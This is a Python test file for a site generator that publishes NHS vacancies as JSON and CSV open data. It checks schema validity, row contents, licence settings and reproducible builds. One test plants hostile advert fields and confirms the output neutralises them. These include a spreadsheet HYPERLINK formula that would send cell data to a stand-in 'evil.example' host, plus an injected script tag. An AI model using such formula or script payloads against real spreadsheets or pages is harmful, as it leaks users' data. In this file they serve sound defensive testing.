"""Open data: /vacancies.json valid against /vacancies.schema.json, and /vacancies.csv, read back with real parsers and
compared with the sample adverts' own front matter."""

from __future__ import annotations

import csv
import json
import re
from urllib.parse import urljoin

import pytest
from bs4 import BeautifulSoup
from conftest import run
from jsonschema import Draft202012Validator
from sitetools import at, build, config, open_order, sources, vacancy_pages

from generator.model import patterns

NOW = "2026-03-01T09:00"
# The columns the README documents, in its order.
COLUMNS = ["job_reference", "employer_name", "job_title", "staff_group", "pay_band", "salary_range_min", "salary_range_max",
           "salary_time_unit", "contract_type", "working_pattern", "postcode", "published_date", "closing_date",
           "closing_time", "url", "contract_length"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")  # OWASP's characters that start a spreadsheet formula
OGL = ("Open Government Licence v3.0", "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/")
OPEN_DATA = ("vacancies.json", "vacancies.schema.json", "vacancies.csv")


def reject(constant: str):
    raise ValueError(f"not strict JSON: {constant}")


def postings(output) -> list[dict]:
    """vacancies.json, parsed strictly."""
    return json.loads((output / "vacancies.json").read_text(encoding="utf-8"), parse_constant=reject)


def schema(output) -> dict:
    return json.loads((output / "vacancies.schema.json").read_text(encoding="utf-8"))


def rows(output) -> list[dict[str, str]]:
    """vacancies.csv read back with the csv module, header checked."""
    with (output / "vacancies.csv").open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        found = list(reader)
    assert reader.fieldnames == COLUMNS
    return found


def guarded(value: str) -> str:
    """A cell as the CSV must hold it: text a spreadsheet would run as a formula gets a leading apostrophe."""
    return f"'{value}" if value.startswith(FORMULA) else value


def listed(value) -> list:
    return [] if value is None else value if isinstance(value, list) else [value]


def expected_row(source, url: str) -> dict[str, str]:
    """A CSV row worked out from the advert's front matter alone."""
    data = source.data
    pay = data.get("salary") if isinstance(data.get("salary"), dict) and {"min", "max"} & set(data["salary"]) else None
    figure = lambda key: "" if pay is None or pay.get(key) is None else str(pay[key])  # noqa: E731
    contract = patterns.contract(data["contract"]) if data.get("contract") else None  # one spelling, its length apart
    row = {
        "job_reference": source.reference, "employer_name": source.trust_name, "job_title": source.title,
        "staff_group": data.get("staff_group", ""), "pay_band": source.band,
        "salary_range_min": figure("min"), "salary_range_max": figure("max"),
        "salary_time_unit": pay.get("period", "year") if pay else "", "contract_type": contract.value if contract else "",
        "contract_length": (contract.detail or "") if contract else "",
        "working_pattern": "; ".join(dict.fromkeys(patterns.working_pattern(p).value for p in listed(data.get("working_pattern")))),
        "postcode": "; ".join(place["postcode"] for place in listed(data.get("location")) if place.get("postcode")),
        "published_date": (data.get("posted") or data["added"]).isoformat(),
        "closing_date": source.closing.date().isoformat(), "closing_time": f"{source.closing:%H:%M}", "url": url,
    }
    return {column: guarded(value) for column, value in row.items()}


@pytest.fixture(scope="module")
def sample(built_site):
    return built_site("nhsuk", NOW)


def open_sources(site) -> list:
    return open_order([s for s in sources(site) if s.is_open(at(NOW))])


def test_vacancies_json_validates_against_the_schema_beside_it(sample):
    published = schema(sample.output)
    Draft202012Validator.check_schema(published)
    assert published["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert published["$id"] == config(sample.site)["base_url"] + "vacancies.schema.json"
    data = postings(sample.output)
    checker = Draft202012Validator(published, format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert [error.message for error in checker.iter_errors(data)] == []
    # The schema is no rubber stamp: what it does not describe, or a broken date, fails.
    assert not checker.is_valid([{**data[0], "salary": 1}])
    assert not checker.is_valid([{**data[0], "datePosted": "1st March"}])
    assert not checker.is_valid([{**data[0], "validThrough": "28 March 2026 at 23:59"}])
    assert not checker.is_valid([{**data[0], "url": "vacancies/x/"}])
    assert not checker.is_valid([{k: v for k, v in data[0].items() if k != "title"}])


def test_one_job_posting_per_open_vacancy_the_same_as_its_page_gives(sample):
    data = postings(sample.output)
    expected = open_sources(sample.site)
    assert [item["identifier"]["value"] for item in data] == [s.reference for s in expected], "open vacancies, index order"
    pages = vacancy_pages(sample.output, config(sample.site)["base_url"])
    for item in data:
        _, page = pages[item["identifier"]["value"]]
        [script] = page.find_all("script", type="application/ld+json")
        assert json.loads(script.string, parse_constant=reject) == item


def test_csv_rows_match_the_open_adverts_field_by_field(sample):
    base = config(sample.site)["base_url"]
    pages = vacancy_pages(sample.output, base)
    found = rows(sample.output)
    expected = [expected_row(s, urljoin(base, pages[s.reference][0])) for s in open_sources(sample.site)]
    assert len(found) == len(expected) > 5
    for row, wanted in zip(found, expected, strict=True):
        for column in COLUMNS:
            assert row[column] == wanted[column], (wanted["job_reference"], column)
    assert any(row["salary_time_unit"] == "hour" for row in found) and any("; " in row["postcode"] for row in found)


def test_the_licence_is_stated_and_can_be_set(sample, site_copy):
    terms = schema(sample.output)["description"]
    assert OGL[0] in terms and OGL[1] in terms, "the default is the Open Government Licence v3.0"
    site = site_copy("nhsuk")
    settings = site / "config.yaml"
    text = settings.read_text(encoding="utf-8")
    settings.write_text(text + "licence:\n  name: CC BY 4.0\n  url: https://creativecommons.org/licenses/by/4.0/\n", encoding="utf-8")
    build(site, "--now", NOW)
    terms = schema(site / "output")["description"]
    assert "CC BY 4.0 (https://creativecommons.org/licenses/by/4.0/)" in terms and OGL[0] not in terms
    settings.write_text(text + "licence:\n  name: CC BY 4.0\n  url: creativecommons.org\n", encoding="utf-8")
    checked = run("check", "--site", site, "--now", NOW)
    line = text.count("\n") + 3
    assert checked.returncode == 1
    assert f"config.yaml:{line}: licence.url: expected an http or https address, got 'creativecommons.org'" in checked.stderr


HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Apply here")',
    "staff_group": "+SUM(1,2)",
    "contract": '-2+3, "fixed" term',
    "working_pattern": ["@cmd", 'Full-time, "quoted", and more'],
}


def write_hostile(site) -> None:
    """One sample advert with formulas, quotes, commas and markup in its fields and text."""
    advert = site / "content" / "vacancies" / "community-nurse-band-5-oxleas.md"
    text = advert.read_text(encoding="utf-8")
    for field, value in HOSTILE.items():
        text = re.sub(rf"(?m)^{field}: .*$", f"{field}: {json.dumps(value)}", text, count=1)
    advert.write_text(text + '\n</script><script>alert("x")</script> <b>bold</b> "quotes" & more\n', encoding="utf-8")


def test_hostile_advert_text_stays_data_in_the_csv_and_the_json(site_copy):
    site = site_copy("nhsuk")
    write_hostile(site)
    build(site, "--now", NOW)
    found = rows(site / "output")
    assert len(found) == len(open_sources(site)), "quotes or commas must not make or merge rows"
    [row] = [r for r in found if r["job_reference"] == "OXL-5-CMHN-3"]
    assert row["job_title"] == "'" + HOSTILE["title"] and row["staff_group"] == "'" + HOSTILE["staff_group"]
    assert row["contract_type"] == "'" + HOSTILE["contract"]
    assert row["working_pattern"] == "'" + "; ".join(HOSTILE["working_pattern"])
    assert not [cell for r in found for cell in r.values() if cell.startswith(FORMULA)]
    raw = (site / "output" / "vacancies.json").read_text(encoding="utf-8")
    assert "<" not in raw and ">" not in raw, "markup is escaped, so no browser can read the file as HTML"
    [item] = [i for i in json.loads(raw) if i["identifier"]["value"] == "OXL-5-CMHN-3"]
    assert item["title"] == HOSTILE["title"], "JSON keeps the text exactly"
    assert BeautifulSoup(item["description"], "html.parser").find("script") is None


def test_open_data_is_byte_identical_from_build_to_build(sample, tmp_path):
    again = tmp_path / "again"
    build(sample.site, "--now", NOW, "--jobs", "1", "--no-cache", "--output", again)
    for name in OPEN_DATA:
        assert (again / name).read_bytes() == (sample.output / name).read_bytes(), name


def test_a_board_with_no_open_vacancy_publishes_empty_open_data(site_copy):
    site = site_copy("nhsuk")
    build(site, "--now", "2027-01-01T09:00")
    output = site / "output"
    assert postings(output) == [] and rows(output) == []
    Draft202012Validator(schema(output)).validate([])
    assert (output / "vacancies.csv").read_bytes() == (",".join(COLUMNS) + "\r\n").encode()

